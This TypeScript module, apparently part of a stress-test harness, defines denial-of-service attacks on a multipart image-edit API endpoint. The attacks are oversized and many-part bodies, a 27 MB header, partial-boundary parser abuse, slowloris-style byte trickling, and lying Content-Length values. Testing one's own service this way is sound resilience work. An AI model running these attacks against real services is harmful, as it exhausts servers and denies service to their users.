import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Target } from './attacks.js';
import { tally } from './outcomes.js';
import { sendRaw } from './raw-request.js';

/** Maximum size of multipart bodies for `/openai/v1` that pass the first check, in bytes. */
const BODY_MAX = 27_900_000;
const BOUNDARY = 'frontier';
const END = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);

const headOfPart = (name: string, file = '') =>
  Buffer.from(
    `\r\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"${file && `; filename="${file}"`}\r\n\r\n`,
  );
const part = (name: string, value: string | Buffer, file?: string) =>
  Buffer.concat([headOfPart(name, file), Buffer.from(value)]);

interface Form {
  readonly body: () => Iterable<Buffer> | AsyncIterable<Buffer>;
  /** The value of `Content-Length`. */
  readonly length: number;
  readonly deadlineMs?: number;
}

const send = (target: Target, { body, length, deadlineMs = 40_000 }: Form) =>
  sendRaw({
    url: target.url,
    head: [
      'POST /openai/v1/images/edits HTTP/1.1',
      `Host: ${new URL(target.url).host}`,
      `Authorization: Bearer ${target.apiKey}`,
      `Content-Type: multipart/form-data; boundary=${BOUNDARY}`,
      `Content-Length: ${length}`,
    ],
    body,
    deadlineMs,
  });

/** Sends the same form several times. */
const forms = (bytes: () => Buffer, times: number, together: number) => async (target: Target) => {
  const whole = bytes();
  return tally(times, together, async () => {
    const { outcome } = await send(target, { body: () => [whole], length: whole.length });
    return outcome;
  });
};

const filled = (...parts: readonly Buffer[]): Buffer => {
  const size = parts.reduce((sum, { length }) => sum + length, END.length);
  const head = headOfPart('image', 'large.png');
  const file = Buffer.alloc(Math.min(19_000_000, BODY_MAX - size - head.length), 'x');
  return Buffer.concat([...parts, head, file, END]);
};

async function* trickle(bytes: Buffer): AsyncGenerator<Buffer> {
  for (let at = 0; at < 60; at += 1) {
    yield bytes.subarray(at, at + 1);
    await pause(1_000);
  }
}

/** Attacks that one caller makes with forms. */
export const FORMS: readonly Attack[] = [
  {
    name: '30 concurrent forms of 19 MB of one key',
    run: forms(() => filled(part('prompt', 'x')), 30, 30),
  },
  {
    name: 'forms of 10,000 parts, 200 times',
    run: forms(() => Buffer.concat([...Array(10_000).fill(part('a', 'b')), END]), 200, 20),
  },
  {
    name: 'forms of 100,000 files, 100 times',
    run: forms(
      () => Buffer.concat([...Array(100_000).fill(part('image', 'x', 'a.png')), END]),
      100,
      10,
    ),
  },
  {
    name: 'a form of 27 MB of beginnings of its boundary, 20 times',
    run: forms(
      () =>
        Buffer.concat([
          headOfPart('prompt'),
          Buffer.alloc(27_000_000, `\r\n--${BOUNDARY.slice(0, -1)}`),
          END,
        ]),
      20,
      4,
    ),
  },
  {
    name: 'a form with a header of 27 MB, 20 times',
    run: forms(() => part('n'.repeat(27_000_000), 'x'), 20, 4),
  },
  {
    name: '300 forms of one key that trickle',
    run: (target) =>
      tally(300, 300, async () => {
        const bytes = filled(part('prompt', 'x'));
        const sent = await send(target, { body: () => trickle(bytes), length: bytes.length });
        return sent.outcome;
      }),
  },
  {
    name: 'forms that are shorter or longer than they say, 200 times',
    run: (target) => {
      const bytes = Buffer.concat([part('prompt', 'x'), part('image', 'x', 'a.png'), END]);
      let at = 0;
      return tally(200, 50, async () => {
        const length = bytes.length + ((at += 1) % 2 === 0 ? 1_000 : -20);
        const sent = await send(target, { body: () => [bytes], length, deadlineMs: 35_000 });
        return sent.outcome;
      });
    },
  },
];
